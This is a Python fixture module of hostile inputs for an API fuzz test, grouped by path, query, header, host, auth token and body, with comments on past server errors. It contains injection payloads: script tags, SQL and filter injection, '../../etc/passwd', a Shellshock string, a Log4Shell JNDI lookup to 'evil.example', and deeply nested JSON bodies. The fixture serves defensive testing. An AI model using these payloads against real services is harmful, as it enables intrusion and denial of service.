"""Hostile values for the API fuzz test, one list per kind of input (each of at least 20 values).

A value is text (sent percent-encoded in a URL, Latin-1 in a header), bytes (sent as they are: a
header or body that is not UTF-8), or `Raw` (put into a URL without encoding, e.g. `%FF`, which
decodes to no text at all). Tokens are built from the session's dev signing key in the test, because
several of them must be signed to get past the signature check; `HOSTILE_TOKEN_SHAPES` are the ones
that need no key. The cases the issue tracker recorded as 500s are here, each with a comment.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Raw:
    """Text put into a URL as it is (already percent-encoded, or meant to be taken literally)."""

    text: str


Hostile = str | bytes | Raw


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _continuation(fields: dict[str, Any]) -> str:
    """A continuation token shaped like ours (base64url of the Table continuation) with hostile keys."""
    return _b64(json.dumps(fields).encode())


def nested_json(depth: int, *, objects: bool = False) -> bytes:
    if objects:
        return b'{"a":' * depth + b"1" + b"}" * depth
    return b"[" * depth + b"]" * depth


DEEP_BODY = nested_json(100_000)
"""A JSON body nested 100,000 deep: a RecursionError 500 on every body route before the body guard."""
LARGE_BODY = b'{"mode": "preview", "pad": "' + b"x" * (2 * 1024 * 1024) + b'"}'
KID_IS_A_NUMBER = "eyJhbGciOiAiUlMyNTYiLCAia2lkIjogMTIzNDV9.e30.eA"
"""Header `{"alg": "RS256", "kid": 12345}`: PyJWT raised an error the validator did not map, a 500."""
NOT_UTF8 = b"Bearer \xff\xfe\xfa\xc3\x28"
"""An Authorization header that is not UTF-8: the host could not pass it on, a 500."""
UNICODE_DIGIT = "²"
"""`pageSize=²`: `str.isdigit()` accepted it, `int()` did not, a 500 on every list route."""
OVERFLOWING_TIME = "0001-01-01T00:00:00-23:59"
"""`since=` on the audit route: valid ISO 8601 that overflowed when moved by a microsecond, a 500."""

PATH_VALUES: list[Hostile] = [
    "",
    " ",
    ".",
    "..",
    Raw("%2e%2e"),
    "a/b",
    "a\\b",
    "#frag",
    "?q=1",
    "%",
    "'",
    '"',
    "<script>alert(1)</script>",
    "' or PartitionKey ne '",
    "x" * 2000,
    "\x00",
    "\n",
    "é",
    "☃",
    UNICODE_DIGIT,
    "-1",
    "9" * 40,
    "{tenantId}",
    "00000000-0000-0000-0000-000000000000",
    Raw("%FF"),
    Raw("%ED%A0%80"),
    Raw("%C0%AF"),
]

QUERY_VALUES: list[Hostile] = [
    "",
    " ",
    UNICODE_DIGIT,
    "٣",
    "-1",
    "0",
    "1001",
    "1e3",
    "99999999999999999999",
    "0x10",
    "NaN",
    OVERFLOWING_TIME,
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "2026-13-45T99:99:99Z",
    "x" * 5000,
    "\x00",
    "\u202e",
    "' or ''='",
    "<script>",
    "☃",
    "a\nb",
    Raw("%FF"),
    Raw("%ED%A0%80"),
    _continuation({"PartitionKey": "a'b", "RowKey": "\x00"}),
    _continuation({"PartitionKey": "x" * 900, "RowKey": None}),
    _continuation({"PartitionKey": None, "RowKey": "/#?\\"}),
    _b64(b"\xff\xfe"),
    _b64(b"[" * 3000),
]

HEADER_VALUES: list[Hostile] = [
    "",
    "*",
    'W/"x"',
    '"etag"',
    '"' + "x" * 3000 + '"',
    "x" * 9000,
    b"\xff\xfe",
    "é".encode(),
    "\u202e".encode(),
    "', DROP TABLE runs; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "() { :;}; echo pwned",
    "${jndi:ldap://evil.example/a}",
    "application/json; charset=utf-16",
    "text/xml",
    "gzip",
    "1.2.3.4, evil",
    "http://evil.example",
    "-1",
    "NaN",
    "a\tb",
    "\x00",
]
"""Sent in every header of `FUZZED_HEADERS` at once (the app reads few headers: `If-Match`, besides
`Authorization`, which has its own corpus). No value starts with white space or holds CR or LF:
HTTP clients refuse to send those."""

HOST_VALUES: list[str | bytes] = [
    "evil.example",
    "evil.example:99999",
    "127.0.0.1:1/../x",
    "[::1",
    "a b",
    "x" * 300,
    "évil.example".encode(),
    "",
]
"""Sent as `Host` alone: the URL the app sees (and the status URLs it answers with) is built from it."""

FUZZED_HEADERS = [
    "If-Match",
    "If-None-Match",
    "Content-Type",
    "Accept",
    "Accept-Language",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-Original-URL",
    "X-HTTP-Method-Override",
    "X-MS-CLIENT-PRINCIPAL",
    "X-MS-CLIENT-PRINCIPAL-ID",
    "Cookie",
    "Origin",
    "Referer",
    "User-Agent",
    "traceparent",
    "x-functions-key",
]

HOSTILE_TOKEN_SHAPES: list[str | bytes] = [
    "Bearer " + KID_IS_A_NUMBER,
    NOT_UTF8,
    "",
    "Bearer",
    "Bearer ",
    "Basic dXNlcjpwYXNz",
    "Bearer a.b.c",
    "Bearer ...",
    "Bearer a.b.c.d",
    "Bearer " + "x" * 8000,
    "Bearer eyJ.eyJ.x",
    "Bearer " + _b64(b"[" * 5000) + ".e30.eA",
    "Bearer " + _b64(b'{"alg": "RS256", "kid": ["a"]}') + ".e30.eA",
    "Bearer " + _b64(b'{"alg": "RS256", "kid": "k", "crit": [1]}') + ".e30.eA",
    "Bearer " + _b64(b"\xff\xfe") + ".e30.eA",
    "Bearer é.é.é".encode(),
    b"Bearer \xff.\xff.\xff",
    "bearer\tabc",
]

BODIES: list[bytes] = [
    DEEP_BODY,
    nested_json(100_000, objects=True),
    nested_json(33),
    LARGE_BODY,
    b"\xff\xfe\x00\x00",
    '{"mode": "preview"}'.encode("utf-16"),
    b"null",
    b"[]",
    b"1",
    b'"preview"',
    b"{",
    b"}{",
    b"NaN",
    b"[Infinity]",
    b"1" * 5000,
    b'{"mode": "\\ud800"}',
    b'{"\\udfff": 1}',
    b'{"mode": "preview", "mode": "live"}',
    b"<xml/>",
    b"mode=preview&confirm=true",
    b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
    b"\x00" * 100,
    b"[" + b"0," * 200_000 + b"0]",
    b"{" + b",".join(b'"k%d": 0' % i for i in range(50_000)) + b"}",
]

_DEEP_FIELD: Any = []
for _ in range(40):
    _DEEP_FIELD = [_DEEP_FIELD]

FIELD_VALUES: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    1.5,
    1e308,
    10**30,
    -(2**63),
    "",
    " ",
    "x" * 200_000,
    [],
    {},
    _DEEP_FIELD,
    "\x00",
    "../../",
    "<script>alert(1)</script>",
    "' or ''='",
    "☃",
    UNICODE_DIGIT,
    OVERFLOWING_TIME,
    ["a"] * 10_000,
    {"$ref": "#"},
    "a/b#c?d\\e",
]
"""JSON values put into each field of a route's body."""

GENERIC_FIELDS = [
    "tenantId",
    "displayName",
    "name",
    "principal",
    "principalId",
    "role",
    "groupId",
    "id",
    "type",
    "mode",
    "confirm",
    "items",
]
"""Fields a body route without a known body gets, all at once, each with the same hostile value."""
